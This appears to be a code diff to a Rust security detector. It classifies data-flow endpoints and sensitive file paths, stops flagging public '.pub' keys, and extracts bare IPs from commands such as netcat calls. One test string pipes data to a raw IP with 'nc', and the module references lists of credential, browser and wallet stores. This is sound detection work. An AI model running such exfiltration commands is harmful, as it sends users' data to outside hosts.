@@ -68,6 +68,11 @@ fn fragment_hit(list: crate::text::Fragments, text: &str) -> bool {
 
 /// A credential store, a browser profile, a messenger session, a wallet, a CTF flag.
 fn sensitive_path(path: &str) -> bool {
+    // The public half of a key pair is made to be handed out.
+    !path.to_ascii_lowercase().ends_with(".pub") && sensitive_store(path)
+}
+
+fn sensitive_store(path: &str) -> bool {
     use crate::information_stealing::*;
     fragment_hit(stl003_credential_files::PATHS, path)
         || fragment_hit(stl004_browser_data::STORES, path)
@@ -186,7 +191,14 @@ pub fn endpoint_kind(text: &str) -> EndpointKind {
         }
         return EndpointKind::DropPoint(*service);
     }
-    let rest = lower.split_once("://").map_or(lower.as_str(), |(_, r)| r);
+    // A command line without a URL (`nc 203.0.113.5 9001`): its bare IP argument.
+    let rest = lower.split_once("://").map(|(_, r)| r).or_else(|| {
+        lower
+            .split_whitespace()
+            .map(|w| w.trim_matches(['\'', '"']))
+            .find(|w| bare_ip(w.split(':').next().unwrap_or(w)))
+    });
+    let rest = rest.unwrap_or(lower.as_str());
     let host = rest
         .split(|c: char| c == '/' || c == ':' || c == '?' || c.is_whitespace())
         .next()
@@ -194,15 +206,18 @@ pub fn endpoint_kind(text: &str) -> EndpointKind {
     if host == "localhost" || host.starts_with("127.") || host == "0.0.0.0" || host.is_empty() {
         return EndpointKind::Local;
     }
-    let parts: Vec<&str> = host.split('.').collect();
-    if parts.len() == 4
-        && parts
-            .iter()
-            .all(|p| !p.is_empty() && p.parse::<u8>().is_ok())
-    {
+    if bare_ip(host) {
         return EndpointKind::BareIp;
     }
     EndpointKind::Host
+}
+
+fn bare_ip(host: &str) -> bool {
+    let parts: Vec<&str> = host.split('.').collect();
+    parts.len() == 4
+        && parts
+            .iter()
+            .all(|p| !p.is_empty() && p.parse::<u8>().is_ok())
 }
 
 /// Who chose where a flow's data goes.
@@ -365,6 +380,10 @@ mod tests {
         ));
         assert_eq!(endpoint_kind("http://127.0.0.1:8000"), EndpointKind::Local);
         assert_eq!(endpoint_kind("https://pypi.org/simple"), EndpointKind::Host);
+        assert_eq!(
+            endpoint_kind("echo '{…}' | nc 45.133.1.7 9001"),
+            EndpointKind::BareIp
+        );
     }
 
     #[test]
@@ -394,6 +413,10 @@ mod tests {
             Some(DataKind::Secret)
         );
         assert_eq!(data_kind(&Source::FileContent("setup.cfg".into())), None);
+        assert_eq!(
+            data_kind(&Source::FileContent("~/.ssh/id_ed25519.pub".into())),
+            None
+        );
     }
 }
 
